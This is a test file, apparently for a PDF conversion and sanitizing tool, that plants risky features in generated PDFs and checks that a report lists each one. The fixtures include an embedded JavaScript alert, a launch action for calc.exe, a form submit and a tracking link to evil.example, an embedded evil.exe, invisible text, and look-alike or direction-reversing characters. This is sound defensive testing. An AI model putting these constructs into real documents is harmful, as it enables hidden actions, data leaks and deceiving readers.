// Every kind of thing that a PDF can hide or carry, each planted in a document of our own: the report lists it.

import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { onePage, type PdfObject } from '../../testing/pdf-maker.ts';
import { unsafeCaptureFrames } from '../cage/emit.ts';
import { SAMPLE_JOB } from '../cage/example-pages.ts';
import type { Job } from '../cage/job.ts';
import { Findings } from '../findings.ts';
import { FRAME } from '../list/frame.ts';
import { convertPdf } from './convert.ts';
import { loadEngine, type Engine } from './engine.ts';

const job: Job = { ...SAMPLE_JOB, likenessFloor: 0 };

let engine: Engine;
beforeAll(async () => {
  engine = await loadEngine();
});
afterEach(() => unsafeCaptureFrames(undefined));

function found(pdf: Uint8Array): { kinds: string[]; texts: string } {
  const findings = new Findings();
  unsafeCaptureFrames((type, payload) => {
    if (type === FRAME.remark) findings.take(payload);
  });
  convertPdf(engine, pdf, job);
  const listed = [...findings.removedList(), ...findings.hiddenList()];
  const kinds = [
    ...listed.map(({ kind }) => kind),
    ...findings.remarks.map(({ what }) => what),
    ...(findings.links.length > 0 ? ['link'] : []),
  ];
  return { kinds, texts: JSON.stringify([listed, findings.remarks, findings.links]) };
}

type Extra = NonNullable<Parameters<typeof onePage>[1]>;
const HELLO = 'BT /F1 18 Tf 20 150 Td (Agreed) Tj ET';

const annotated = (entries: string, objects: readonly PdfObject[] = []): Extra => ({
  page: '/Annots[6 0 R]',
  objects: [`<</Type/Annot/Rect[20 20 90 60]${entries}>>`, ...objects],
});
const action = (entries: string): Extra => ({
  catalog: '/OpenAction 6 0 R',
  objects: [`<<${entries}>>`],
});
/** The letters A, B and C said to be other characters, by their numbers. */
const saying = (a: string, b: string, c: string): Extra => ({
  page: '/Resources<</Font<</F1 6 0 R>>>>',
  objects: [
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>',
    {
      dictionary: '',
      stream: `/CIDInit/ProcSet findresource begin 12 dict begin begincmap/CMapType 2 def 1 begincodespacerange<00><ff>endcodespacerange 3 beginbfchar <41><${a}> <42><${b}> <43><${c}> endbfchar endcmap end end`,
    },
  ],
});
const ABC = 'BT /F1 18 Tf 20 150 Td (ABC) Tj ET';
const TEXT = '(the secret clause) Tj ET';

const CASES: readonly (readonly [string, string, string, string, Extra])[] = [
  [
    'a script',
    'javascript',
    'app.alert',
    HELLO,
    {
      catalog: '/Names<</JavaScript<</Names[(a) 6 0 R]>>>>',
      objects: ['<</S/JavaScript/JS(app.alert\\(1\\))>>'],
    },
  ],
  ['a program to launch', 'launch-action', '', HELLO, action('/S/Launch/F(calc.exe)')],
  [
    'another document to open',
    'action',
    '',
    HELLO,
    action('/S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]'),
  ],
  ['a form to send', 'action', '', HELLO, action('/S/SubmitForm/F(http://evil.example)')],
  ['data to import', 'action', '', HELLO, action('/S/ImportData/F(a.fdf)')],
  ['an action on opening a page', 'action', '', HELLO, { page: '/AA<</O<</S/Named/N/Print>>>>' }],
  [
    'an attachment',
    'embedded-file',
    'evil.exe',
    HELLO,
    {
      catalog: '/Names<</EmbeddedFiles<</Names[(evil.exe) 6 0 R]>>>>',
      objects: [
        '<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 7 0 R>>>>',
        { dictionary: '/Type/EmbeddedFile', stream: 'MZ' },
      ],
    },
  ],
  [
    'an attachment on the page',
    'embedded-file',
    'invoice',
    HELLO,
    annotated('/Subtype/FileAttachment/Contents(invoice)'),
  ],
  [
    'a link to the outside',
    'link',
    'http://evil.example/track',
    HELLO,
    annotated('/Subtype/Link/A<</S/URI/URI(http://evil.example/track)>>'),
  ],
  ['a form field', 'form-field', '', HELLO, annotated('/Subtype/Widget/FT/Tx/T(name)')],
  ['a dynamic form', 'form', '', HELLO, { catalog: '/AcroForm<</Fields[]/XFA(x)>>' }],
  ['a film', 'multimedia', '', HELLO, annotated('/Subtype/RichMedia')],
  [
    'a note with its author',
    'comment',
    'reserve price',
    HELLO,
    annotated('/Subtype/Text/T(Kim)/Contents(our reserve price is nine)'),
  ],
  [
    'a note that is hidden',
    'hidden-annotation',
    'for us only',
    HELLO,
    annotated('/Subtype/Text/F 2/Contents(for us only)'),
  ],
  ['who wrote it', 'metadata', 'Kim Chol', HELLO, { objects: ['<</Author(Kim Chol)>>'] }],
  ['layers', 'layer', '', HELLO, { catalog: '/OCProperties<</OCGs[]/D<<>>>>' }],
  ['bytes behind the end', 'appended-data', '', HELLO, { tail: 'PK appended' }],
  [
    'white text on white',
    'invisible-text',
    'the secret clause',
    `BT 1 g /F1 18 Tf 20 100 Td ${TEXT}`,
    {},
  ],
  [
    'text that is never painted',
    'invisible-text',
    'the secret clause',
    `BT 3 Tr /F1 18 Tf 20 100 Td ${TEXT}`,
    {},
  ],
  [
    'text under a box',
    'invisible-text',
    'the secret clause',
    `BT /F1 18 Tf 20 100 Td ${TEXT} 1 g 0 80 300 60 re f`,
    {},
  ],
  [
    'text outside the page',
    'off-page-text',
    'the secret clause',
    `BT /F1 18 Tf 20 900 Td ${TEXT}`,
    {},
  ],
  ['letters that turn the order', 'bidi-control', '', ABC, saying('202E', '0062', '0063')],
  ['letters without width', 'zero-width', '', ABC, saying('200B', '0062', '0063')],
  ['look-alike letters', 'look-alike-letters', 'p\u0430y', ABC, saying('0070', '0430', '0079')],
];

describe('what is planted in a PDF is listed', () => {
  it.each(CASES)('%s', (what, kind, words, content, extra) => {
    const pdf =
      what === 'who wrote it'
        ? Buffer.from(
            Buffer.from(onePage(content, extra))
              .toString('latin1')
              .replace('/Root 1 0 R', '/Root 1 0 R/Info 6 0 R'),
            'latin1',
          )
        : onePage(content, extra);
    const { kinds, texts } = found(pdf);
    expect(kinds).toContain(kind);
    expect(texts).toContain(words);
  });

  it('and nothing in a plain page', () => {
    expect(found(onePage(HELLO)).kinds).toEqual([]);
  });
});
